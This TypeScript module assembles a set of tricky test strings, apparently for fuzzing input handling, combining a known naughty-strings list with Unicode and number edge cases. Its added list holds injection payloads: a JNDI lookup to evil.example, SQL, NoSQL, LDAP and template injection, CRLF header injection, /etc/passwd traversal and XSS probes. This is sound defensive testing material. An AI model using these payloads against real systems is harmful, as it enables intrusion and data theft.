import known from 'big-list-of-naughty-strings/blns.json';
import { FORMULAS } from './formulas';
import { TEXTS } from './unicodeTexts';

/** Of kinds that the list is too old to know, or does not go into. */
const MORE: readonly string[] = [
  // Sent to loggers, template engines, and databases that ask in other languages.
  ...['${jndi:ldap://evil.example/a}', '#{7*7}', '<%= 7*7 %>', '{% include "/etc/passwd" %}'],
  ...['{"$gt":""}', '{"$where":"sleep(9)"}', "'; waitfor delay '0:0:9'--", '*)(uid=*))(|(uid=*'],
  ...["' or count(/*)=1 or 'a'='b", '1;select pg_sleep(9)', '"; exec xp_cmdshell', '%{7*7}'],
  // Sent to headers, e-mails, and files.
  ...['a\r\nSet-Cookie: x=1', 'a\nBcc: x@y.z', 'a%0d%0aLocation: //evil.example', 'BEGIN:VCARD'],
  ...['C:\\Windows\\win.ini', 'NUL', 'COM1', 'aux.txt', '~root', '..%c0%af..%c0%afetc/passwd'],
  // Sent to readers of marks, sheets and numbers.
  ...['![x](javascript:alert(1))', '[x](data:text/html,1)', '<!--', '-->', ']]>', '&#x3C;b&#x3E;'],
  ...['<![CDATA[x]]>', '<?xml version="1.0"?>', '<svg/onload=alert(1)>', '</textarea><b>'],
  ...['1e-7', '-0', '+0', '0o17', '0b11', '1_000', '١٬٠٠٠', '½', 'Ⅷ', '௫', '1\u200b2'],
  // Letters that change their number when their case does, look alike, or join.
  ...['İstanbul', 'ıstanbul', 'Straße', 'ΣΊΣΥΦΟΣ', 'ﬀ', 'Ǆ', 'ŉ', 'ᾳ', 'раураl', 'аdmin', '𝐚𝐝𝐦𝐢𝐧'],
  ...['क्षि', 'ພາສາ', 'தமிழ்', 'བོད', '\u1160\u115f', 'कि\u200dन', 'ا\u200dل', '\ufdfa\ufdfd', 'ᠠ᠎ᠡ'],
  ...['👩🏽‍🚀', '🧑🏿‍🤝‍🧑🏻', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '🇮🇶🇮', '❤️‍🔥', '☎︎', '☎️', '\ufe0f', '\u200d', '\u{1f3fb}'],
];

/** Every text that is tried, once. */
export const NAUGHTY: readonly string[] = [...new Set([...known, ...TEXTS, ...FORMULAS, ...MORE])];
